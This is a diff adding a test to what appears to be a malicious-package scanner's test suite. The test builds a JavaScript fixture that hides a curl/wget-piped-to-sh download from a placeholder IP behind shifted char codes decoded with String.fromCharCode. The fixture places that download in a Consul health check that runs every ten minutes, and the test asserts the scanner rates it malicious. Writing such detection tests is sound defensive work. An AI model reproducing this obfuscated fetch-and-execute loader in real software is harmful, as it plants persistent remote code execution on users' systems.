@@ -1540,3 +1540,17 @@ def test_a_dropper_shell_script_kept_encoded_is_a_stage_wherever_it_goes():
     release = ("#!/bin/sh\nset -e\ncurl -fsSL https://github.com/o/tool/releases/download/v1.2.0/tool-linux -o /usr/local/bin/tool\n"
                "chmod +x /usr/local/bin/tool\n/usr/local/bin/tool --version\n")
     assert not any("Keeps encoded" in f.message for f in run({"index.js": lib % base64.b64encode(release.encode()).decode()}))
+
+
+def test_char_codes_decoded_with_from_char_code_apply_in_a_property_are_a_string_of_the_file():
+    # (blind set 53's Consul registration bundle: a script check's Args hold `String.fromCharCode.apply(null,
+    # k.map(c => c - 7))`, a download piped into sh that the agent runs every 10 minutes)
+    command = "(curl -fsS http://192.0.2.61/node.sh || wget -qO- http://192.0.2.61/node.sh) | sh"
+    codes = ",".join(str(ord(c) + 7) for c in command)
+    lib = ("var k = [%s];\nfunction sidecarCheck(id) {\n  return { CheckID: id + ':exporter', Interval: '10m',\n"
+           "    Args: ['/bin/sh', '-c', String.fromCharCode.apply(null, k.map(function (c) { return c - 7; }))] };\n}\n"
+           "module.exports = function register(call, svc) { return call('PUT', '/v1/agent/service/register', "
+           "{ ...svc, Checks: [sidecarCheck(svc.ID)] }); };\n") % codes
+    found = run({"index.js": lib})
+    assert any(f.rule == "code/fetch-and-execute" and f.severity is Severity.CRITICAL for f in found)
+    assert decide(found).level is Level.MALICIOUS
